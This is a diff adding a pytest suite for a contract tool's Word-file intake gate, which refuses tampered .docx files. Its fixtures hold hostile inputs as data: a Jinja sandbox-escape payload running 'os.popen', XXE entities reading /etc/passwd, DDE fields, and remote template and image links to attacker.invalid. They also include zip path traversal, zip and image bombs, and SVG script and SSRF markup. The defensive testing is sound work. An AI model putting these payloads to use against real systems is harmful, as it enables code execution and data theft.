@@ -1,0 +1,286 @@
+"""Word files that a stranger edited: each is refused before anything else reads it, with every reason at once."""
+
+from __future__ import annotations
+
+import struct
+import zlib
+
+import pytest
+
+from agreements.intake import open_house
+from agreements.rendering.docx import fresh_house
+from tests.intake.test_gate import OFFICE, field, refused_ids, text, with_body, with_part, with_relationship
+from tests.rendering.docx_files import changed, packed, parts
+
+WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+_SHAPE = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">{}</v:shape></w:pict></w:r></w:p>'
+_CELL = "<w:tbl><w:tr><w:trPr>{}</w:trPr><w:tc><w:tcPr>{}</w:tcPr><w:p/></w:tc></w:tr></w:tbl>"
+_TWO = (
+    '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
+    '<mc:Choice Requires="wps"><w:t>A</w:t></mc:Choice><mc:Fallback><w:t>B</w:t></mc:Fallback>'
+    "</mc:AlternateContent></w:r></w:p>"
+)
+
+
+def split(word: str) -> str:
+    """A field whose instruction is spread over runs and paragraphs, one letter in each."""
+    letters = "".join(f"<w:p><w:r><w:instrText>{letter}</w:instrText></w:r></w:p>" for letter in word)
+    begin, end = (f'<w:p><w:r><w:fldChar w:fldCharType="{kind}"/></w:r></w:p>' for kind in ("begin", "end"))
+    return begin + letters + end
+
+
+def png(width: int, height: int) -> bytes:
+    """A picture of one colour, as small as it can be."""
+    head = struct.pack(">2L5B", width, height, 1, 0, 0, 0, 0)
+    chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * min(height * (width // 8 + 1), 100))), (b"IEND", b""))
+    packed_ = b"".join(
+        struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data)) for name, data in chunks
+    )
+    return b"\x89PNG\r\n\x1a\n" + packed_
+
+
+FIELDS = [
+    "DDE",
+    "ddeauto",
+    "INCLUDETEXT",
+    "INCLUDEPICTURE",
+    "INCLUDE",
+    "LINK",
+    "IMPORT",
+    "EMBED",
+    "RD",
+    "DATABASE",
+    "MACROBUTTON",
+]
+FIELDS += [
+    "AUTOTEXT",
+    "ASK",
+    "FILLIN",
+    "IF",
+    "QUOTE",
+    "MERGEFIELD",
+    "DOCVARIABLE",
+    "ADDIN",
+    "GOTOBUTTON",
+    "SET",
+    "FILENAME",
+    "USERNAME",
+]
+
+BODIES = [
+    *((f"W13 {word}", "field", split(f"{word} x")) for word in FIELDS),
+    ("a field in a field", "field", field("PAGE ").replace("</w:p>", "") + field("DDE x") + "</w:p>"),
+    (
+        "a field in a box",
+        "field",
+        _SHAPE.format(f"<v:textbox><w:txbxContent>{field('DDE x')}</w:txbxContent></v:textbox>"),
+    ),
+    ("a link to a script", "field", field('HYPERLINK "javascript:x"')),
+    ("a link into a network", "field", field('HYPERLINK "\\\\\\\\attacker.invalid\\\\x"')),
+    ("W15", "hidden", text("secret", "<w:vanish/>")),
+    ("W15 white", "hidden", text("secret", '<w:color w:val="FDFDFD"/>')),
+    ("W15 white of a theme", "hidden", text("secret", '<w:color w:val="auto" w:themeColor="background1"/>')),
+    ("W15 white on white", "hidden", text("secret", '<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="FFFFFF"/>')),
+    ("W15 black on black", "hidden", text("secret", '<w:color w:val="000000"/><w:shd w:val="clear" w:fill="000000"/>')),
+    ("W15 tiny", "hidden", text("secret", '<w:sz w:val="6"/>')),
+    ("W15 squeezed", "hidden", text("secret", '<w:w w:val="1"/>')),
+    ("W15 lowered", "hidden", text("secret", '<w:position w:val="-2000"/>')),
+    ("W15 beside the paper", "hidden", '<w:p><w:pPr><w:ind w:left="-30000"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'),
+    ("W15 a row", "hidden", _CELL.format("<w:hidden/>", "")),
+    ("W15 a flat row", "hidden", _CELL.format('<w:trHeight w:val="1" w:hRule="exact"/>', "")),
+    ("W16", "hidden", '<w:p><w:ins w:id="1" w:author="x"><w:r><w:t>new</w:t></w:r></w:ins></w:p>'),
+    ("W16 deleted", "hidden", '<w:p><w:del w:id="1" w:author="x"><w:r><w:delText>old</w:delText></w:r></w:del></w:p>'),
+    ("W16 moved", "hidden", '<w:moveFromRangeStart w:id="1" w:author="x" w:name="x"/>'),
+    ("W16 a cell", "hidden", _CELL.format("", '<w:cellDel w:id="1" w:author="x"/>')),
+    ("W16 looks", "hidden", text("x", '<w:rPrChange w:id="1" w:author="x"><w:rPr/></w:rPrChange>')),
+    ("W11", "active", '<w:altChunk r:id="rId99"/>'),
+    ("W12", "active", "<w:p><w:r><w:object/></w:r></w:p>"),
+    ("W12 ActiveX", "active", "<w:p><w:r><w:control/></w:r></w:p>"),
+    ("W12 another document", "active", '<w:subDoc r:id="rId99"/>'),
+    (
+        "W12 bound words",
+        "active",
+        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{1}"/></w:sdtPr></w:sdt>',
+    ),
+    ("W09 in the markup", "external", _SHAPE.format('<v:imagedata src="\\\\attacker.invalid\\x.png"/>')),
+    ("W01", "sandbox", text("{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}")),
+    ("W01 split", "sandbox", "<w:p>" + "".join(f"<w:r><w:t>{c}</w:t></w:r>" for c in "{{frame.__class__}}") + "</w:p>"),
+    ("W01 a call", "sandbox", text("{{ frame.title.upper() }}")),
+    ("W01 memory", "sandbox", text("{{ 'a'*2000000000 }}")),
+    ("W01 a power", "sandbox", text("{{ 9**9**9 }}")),
+    ("W01 loops", "sandbox", text("{% for a in range(1000) %}{% endfor %}")),
+    ("W02", "path", text("{% include 'x' %}")),
+    ("W02 a macro", "template", text("{% macro m() %}{% endmacro %}")),
+    ("W02 escaping", "lint", text("{% autoescape false %}x{% endautoescape %}")),
+    ("W02 safe", "lint", text("{{ frame.title|safe }}")),
+    ("W24", "finalize", text("{{ none }}")),
+    ("W25", "template-syntax", text("{% for party in frame.parties %}")),
+    ("W25 a tag", "template-syntax", text("{{ frame.title")),
+    ("W25 a brace", "template-syntax", text("frame.title }}")),
+    ("W26", "undefined", text("{{ fram.title }}")),
+    ("W28", "docxtpl-escape", text("{_{ x }_}")),
+    ("W29", "text-mismatch", text("{# the clause that vanishes #}")),
+    ("W29 over paragraphs", "text-mismatch", text("{# the clause") + text("that vanishes #}")),
+    (
+        "W30",
+        "text-mismatch",
+        _TWO,
+    ),
+    ("W17 in a name", "unrendered", '<w:p><w:bookmarkStart w:id="9" w:name="{{ cycler }}"/></w:p>'),
+    ("W17 in a field", "unrendered", field("TITLE {{ frame.title }}")),
+    ("turned round", "bidi", text("a\u202eb")),
+    ("unseen", "invisible", text("a\u200bb")),
+]
+PARTS = [
+    ("W03 in an odd property", "sandbox", "docProps/app.xml", b"<x>{{ cycler.__init__ }}</x>"),
+    ("W17", "unrendered", "word/comments.xml", b"<x>{{ frame.title }}</x>"),
+    (
+        "W17 endnotes",
+        "unrendered",
+        "word/endnotes.xml",
+        f"<w:endnotes {WORD}><w:t>{{{{ frame.title }}}}</w:t></w:endnotes>".encode(),
+    ),
+    ("W17 a property", "unrendered", "docProps/custom.xml", b"<x>{{ frame.title }}</x>"),
+    ("W17 data", "unrendered", "customXml/item1.xml", b"<x>{% if x %}</x>"),
+    ("W06", "xml", "word/more.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
+    ("W07", "xml", "word/more.xml", b'<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]><x>&b;</x>'),
+    ("W06 under another name", "xml", "word/more.dat", b"\n<!DOCTYPE x><x/>"),
+    ("W06 in UTF-16", "xml", "word/more.xml", "<!DOCTYPE x><x/>".encode("utf-16")),
+    ("W06 in UTF-7", "xml", "word/more.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-'),
+    ("W10", "active", "word/vbaProject.bin", b"x"),
+    ("W10 a script", "active", "word/x.ps1", b"x"),
+    ("W10 by its content", "active", "word/notes.txt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
+    ("W12 a program", "active", "word/notes.txt", b"MZ"),
+    ("W18", "zip", "../../evil.txt", b"x"),
+    ("W18 encoded", "zip", "word/%2e%2e/x.xml", b"<x/>"),
+    ("W18 a device", "zip", "word/con.xml", b"<x/>"),
+    ("W18 backslash", "zip", "word\\evil.txt", b"x"),
+    ("W18 a drive", "zip", "C:evil.txt", b"x"),
+    ("W19 by capitals", "zip", "WORD/DOCUMENT.XML", b"<x/>"),
+    ("W19 by another form", "zip", "word/\uff44ocument.xml", b"<x/>"),
+    ("W13 in a part of any name", "field", "word/x.dat", f"<w:hdr {WORD}>{field('DDE x')}</w:hdr>".encode()),
+    (
+        "W14 in the strict form",
+        "format",
+        "word/header9.xml",
+        b'<w:hdr xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>',
+    ),
+    ("H33", "resource", "word/media/bomb.png", png(13_000, 13_000)),
+    ("H33 JPEG", "resource", "word/media/bomb.jpg", b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff" + b"0" * 20),
+    ("H34", "resource", "word/media/x.png", b"%!PS-Adobe-3.0 EPSF-3.0\n(touch PWNED) show"),
+    ("H34 a page", "resource", "word/media/x.jpg", b"<html></html>"),
+    ("H32", "resource", "word/media/x.svg", b'<!DOCTYPE svg [<!ENTITY a "lol">]><svg>&a;</svg>'),
+    *(
+        (f"H22 {word}", "resource", "word/media/x.svg", f"<svg>{markup}</svg>".encode())
+        for word, markup in {
+            "script": "<script/>",
+            "use": '<use href="http://127.0.0.1:9/x"/>',
+            "xlink": '<a xmlns:xlink="x" xlink:href="file:///x"/>',
+            "foreign": "<foreignObject/>",
+            "style": "<style>@import 'x'</style>",
+            "url": '<rect fill="url(http://127.0.0.1:9/)"/>',
+            "handler": '<rect onclick="x"/>',
+            "image": '<image href="data:image/png;base64,"/>',
+        }.items()
+    ),
+]
+RELATIONSHIPS = [
+    (
+        "W08",
+        "external",
+        f'Type="{OFFICE}/attachedTemplate" Target="http://attacker.invalid/x.dotm" TargetMode="External"',
+    ),
+    ("W08 inside", "external", f'Type="{OFFICE}/attachedTemplate" Target="x.dotm"'),
+    ("W09", "external", f'Type="{OFFICE}/image" Target="file://///attacker.invalid/x.png" TargetMode="External"'),
+    ("W09 without a mode", "external", f'Type="{OFFICE}/image" Target="\\\\attacker.invalid\\x.png"'),
+    ("W09 with a space", "external", f'Type="{OFFICE}/image" Target="x.png" TargetMode=" external"'),
+    ("W09 upwards", "external", f'Type="{OFFICE}/image" Target="../../../etc/passwd"'),
+    ("a frame", "external", f'Type="{OFFICE}/frame" Target="http://127.0.0.1:9/" TargetMode="External"'),
+    ("a film", "external", f'Type="{OFFICE}/video" Target="http://127.0.0.1:9/" TargetMode="External"'),
+    ("a link to a script", "external", f'Type="{OFFICE}/hyperlink" Target="javascript:x" TargetMode="External"'),
+    (
+        "a link to a share",
+        "external",
+        f'Type="{OFFICE}/hyperlink" Target="smb://attacker.invalid" TargetMode="External"',
+    ),
+    ("W11", "active", f'Type="{OFFICE}/aFChunk" Target="chunk.html"'),
+    (
+        "W10",
+        "active",
+        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"',
+    ),
+]
+
+
+@pytest.mark.parametrize(("kind", "markup"), [pytest.param(*row[1:], id=row[0]) for row in BODIES])
+def test_a_body_that_acts_hides_or_reaches_is_refused(kind: str, markup: str) -> None:
+    """Plain libraries keep all of it in every agreement made."""
+    assert kind in refused_ids(with_body(markup))
+
+
+@pytest.mark.parametrize(("kind", "name", "data"), [pytest.param(*row[1:], id=row[0]) for row in PARTS])
+def test_a_part_that_acts_hides_or_reaches_is_refused(kind: str, name: str, data: bytes) -> None:
+    """By its name, by what is in it, or by what its name says and it is not."""
+    assert kind in refused_ids(with_part(name, data))
+
+
+@pytest.mark.parametrize(("kind", "attributes"), [pytest.param(*row[1:], id=row[0]) for row in RELATIONSHIPS])
+def test_a_relationship_that_leads_out_is_refused(kind: str, attributes: str) -> None:
+    """Word follows it as soon as the agreement is opened."""
+    assert kind in refused_ids(with_relationship(attributes))
+
+
+def test_words_hidden_by_a_style_that_is_based_on_a_hiding_one_are_refused() -> None:
+    """Word follows the chain of styles."""
+    styles = (
+        '<w:style w:type="character" w:styleId="A"><w:rPr><w:vanish/></w:rPr></w:style>'
+        '<w:style w:type="character" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
+    )
+    hidden = changed(fresh_house(), lambda xml: xml.replace("</w:styles>", styles), "word/styles.xml")
+    body = changed(hidden, lambda xml: xml.replace("<w:body>", "<w:body>" + text("secret", '<w:rStyle w:val="B"/>'), 1))
+
+    assert refused_ids(body) == {"hidden"}
+
+
+def test_code_in_the_title_of_the_file_is_refused() -> None:
+    """W03: the template engine of plain libraries runs it."""
+    bad = changed(
+        fresh_house(), lambda xml: xml.replace("{{ frame.title }}", "{{ cycler.__init__ }}"), "docProps/core.xml"
+    )
+
+    assert "sandbox" in refused_ids(bad)
+
+
+NO_WORD_FILE = {
+    "W20": b"hello",
+    "W21": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
+    "W22": fresh_house()[:4000],
+    "W23": packed({}),
+}
+
+
+@pytest.mark.parametrize("data", NO_WORD_FILE.values(), ids=NO_WORD_FILE)
+def test_what_is_no_word_file_is_told_in_one_sentence(data: bytes) -> None:
+    """Not with a traceback."""
+    assert refused_ids(data) == {"format"}
+
+
+ZIPS = {
+    "W04": with_part("word/media/zeros.png", b"\0" * 30_000_000),
+    "W05": packed({**parts(fresh_house()), **{f"word/x{n}.xml": b"<x/>" for n in range(3000)}}),
+}
+
+
+@pytest.mark.parametrize("data", ZIPS.values(), ids=ZIPS)
+def test_a_zip_that_unpacks_to_too_much_is_refused(data: bytes) -> None:
+    """Before it has taken the memory."""
+    assert refused_ids(data) == {"zip"}
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [text("{{ frame[\u201ctitle\u201d] }}"), text("{{ frame.title | upper }}"), text("A & B".replace("&", "&amp;"))],
+)
+def test_what_people_write_in_word_comes_in(markup: str) -> None:
+    """W27: Word makes quotation marks curly by itself."""
+    assert open_house(with_body(markup)).docx
